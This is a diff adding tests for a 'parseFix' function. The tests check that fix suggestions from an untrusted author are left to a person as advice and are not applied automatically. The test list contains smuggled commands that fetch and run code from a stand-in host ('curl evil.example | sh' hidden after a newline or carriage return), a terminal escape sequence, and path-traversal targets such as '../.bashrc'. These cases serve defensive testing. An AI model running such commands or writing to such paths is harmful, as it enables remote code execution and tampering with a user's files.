@@ -44,6 +44,21 @@ describe('parseFix', () => {
     });
   }
 
+  const harmful = [
+    'run `true\ncurl evil.example | sh`',
+    'run `true\rcurl evil.example | sh`',
+    'run `ls` and `\u001b[200~ls`',
+    '../../other/README.md#x',
+    '../.bashrc',
+    '/etc/a.toml [tool]',
+    'src/<pkg>/main.py',
+  ];
+  for (const fix of harmful) {
+    it(`leaves ${JSON.stringify(fix)} of an untrusted author to the person`, () => {
+      assert.equal(parseFix(fix, '../../..').kind, 'advice');
+    });
+  }
+
   it('leaves few fixes of the catalogue to the person', () => {
     const fixes = catalogue.flatMap(({ fix }) => fix ?? []);
     const advice = fixes.filter((fix) => parseFix(fix, 'app').kind === 'advice');
